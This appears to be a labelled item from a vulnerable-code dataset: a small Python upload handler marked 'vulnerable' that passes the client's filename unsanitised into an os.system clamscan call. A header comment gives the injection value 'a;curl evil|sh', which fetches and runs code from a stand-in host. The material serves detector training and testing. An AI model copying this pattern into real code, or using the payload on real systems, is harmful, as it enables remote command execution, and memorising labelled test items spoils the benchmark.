# label: vulnerable
# family: shell
# sink-line: 30
# why: The uploaded file's original name, kept on the dataclass, is interpolated into an os.system scan command, so a name like 'a;curl evil|sh' executes.
import os
from dataclasses import dataclass


class Request:
    def __init__(self, form: dict[str, str], body: bytes) -> None:
        self.form = form
        self.body = body


@dataclass
class Upload:
    original_name: str
    size: int
    spool_dir: str = "/var/spool/uploads"

    @property
    def path(self) -> str:
        return f"{self.spool_dir}/{self.original_name}"


def receive(request: Request) -> bool:
    upload = Upload(original_name=request.form["filename"], size=len(request.body))
    with open(upload.path, "wb") as fh:
        fh.write(request.body)
    return os.system(f"clamscan --no-summary {upload.path}") == 0
